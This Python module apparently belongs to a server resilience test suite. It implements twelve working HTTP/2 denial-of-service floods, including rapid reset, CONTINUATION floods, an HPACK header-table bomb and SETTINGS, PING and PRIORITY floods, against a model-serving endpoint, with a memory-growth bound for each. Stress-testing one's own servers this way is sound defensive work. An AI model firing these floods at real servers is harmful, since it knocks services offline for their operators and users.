"""Floods of frames that cost the server more than the client, or that it has to keep."""

import itertools
import threading
from collections.abc import Callable

from attack import MB, NO_BOUND, Attack, Context, Figure
from http1 import Closed
from http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    WINDOW_UPDATE,
    Http2,
    block,
    frame,
    literal,
    settings,
)

# What one flood may add to the server's memory.
GROWTH_MB = 150
LIVE = block("GET", "/v2/health/live")
ASK = block("POST", "/predict/iris", {"content-type": "application/json", "content-length": "0"})


def flood(context: Context, burst: Callable[[int], bytes]) -> list[Figure]:
    """Two clients that send `burst`, given the next free stream, again and again, and connect anew when they are
    cut off. They read what comes and do not look at it."""
    sent = [0] * 2

    def attacker(number: int) -> None:
        while context.goes_on():
            try:
                with context.http2(timeout=2) as client:
                    for stream in itertools.count(1, 200):
                        if not context.goes_on() or stream > 1 << 30:
                            break
                        data = burst(stream)
                        client.socket.sendall(data)
                        sent[number] += len(data)
                        drain(client)
            except OSError:
                context.sleep(0.05)

    threads = [threading.Thread(target=attacker, args=(number,)) for number in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(context.left + 30)
    if not any(sent):
        raise RuntimeError("nothing was sent")
    return [Figure("sent", sum(sent) / MB / context.seconds, NO_BOUND, "MB/s")]


def drain(client: Http2) -> None:
    client.socket.setblocking(False)
    try:
        while True:
            if not client.socket.recv(1 << 18):
                raise Closed
    except BlockingIOError:
        pass
    finally:
        client.socket.settimeout(2)


def rapid_reset(stream: int) -> bytes:
    cancel = CANCEL.to_bytes(4, "big")
    return b"".join(
        frame(HEADERS, END_HEADERS, stream + 2 * n, ASK) + frame(RST_STREAM, 0, stream + 2 * n, cancel)
        for n in range(100)
    )


def made_to_reset(stream: int) -> bytes:
    """Streams that the server has to reset: a window that overflows."""
    too_much = (2**31 - 1).to_bytes(4, "big")
    return b"".join(
        frame(HEADERS, END_HEADERS, stream + 2 * n, ASK) + frame(WINDOW_UPDATE, 0, stream + 2 * n, too_much)
        for n in range(100)
    )


def continuation(stream: int) -> bytes:
    """A head without an end."""
    filler = literal("x-a", "a" * 15_000)
    return frame(HEADERS, 0, stream, LIVE) + frame(CONTINUATION, 0, stream, filler) * 100


def empty_continuation(stream: int) -> bytes:
    return frame(HEADERS, 0, stream, LIVE) + frame(CONTINUATION, 0, stream) * 10_000


def empty_data(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, ASK) + frame(DATA, 0, stream) * 10_000


def padded_data(stream: int) -> bytes:
    """Frames of one byte and much padding."""
    return frame(HEADERS, END_HEADERS, stream, ASK) + frame(DATA, 0x8, stream, b"\xff" + b" " + bytes(255)) * 200


def header_table(stream: int) -> bytes:
    """A header that is kept in the table once and named 4,000 times: HPACK's bomb."""
    kept = b"\x40" + literal("x-a", "a" * 3_900)[1:] if stream == 1 else b""
    return frame(HEADERS, END_HEADERS | 1, stream, LIVE + kept + b"\xbe" * 4_000)


def settings_flood(_: int) -> bytes:
    return settings({3: 100, 4: 65_535}) * 2_000


def setting_changes(_: int) -> bytes:
    """The header table's size and the windows, to and fro."""
    return (settings({1: 0, 4: 0}) + settings({1: 4_096, 4: 2**31 - 1})) * 1_000


def pings(_: int) -> bytes:
    return frame(PING, 0, 0, bytes(8)) * 5_000


def priorities(stream: int) -> bytes:
    return b"".join(frame(PRIORITY, 0, stream + 2 * n, (1).to_bytes(4, "big") + b"\x10") for n in range(100)) * 20


def unknown_frames(_: int) -> bytes:
    return frame(0xEE, 0, 0, bytes(100)) * 2_000


KINDS: dict[str, tuple[str, Callable[[int], bytes]]] = {
    "rapid_reset": ("streams that are reset as soon as they are opened", rapid_reset),
    "made_to_reset": ("streams that the server must reset", made_to_reset),
    "continuation": ("heads without an end, 1.5 MB at a time", continuation),
    "empty_continuation": ("heads of empty CONTINUATION frames", empty_continuation),
    "empty_data": ("empty DATA frames", empty_data),
    "padded_data": ("DATA of one byte and 255 of padding", padded_data),
    "header_table": ("one header of HPACK's table, 4,000 times a head", header_table),
    "settings": ("SETTINGS", settings_flood),
    "setting_changes": ("SETTINGS that change windows and tables", setting_changes),
    "pings": ("PING", pings),
    "priorities": ("PRIORITY of streams that there are not", priorities),
    "unknown_frames": ("frames of an unknown kind", unknown_frames),
}
ATTACKS = [
    Attack(
        f"h2_{name}",
        0,
        f"HTTP/2: {what}",
        lambda context, burst=burst: flood(context, burst),
        6,
        growth_mb=GROWTH_MB,
    )
    for name, (what, burst) in KINDS.items()
]
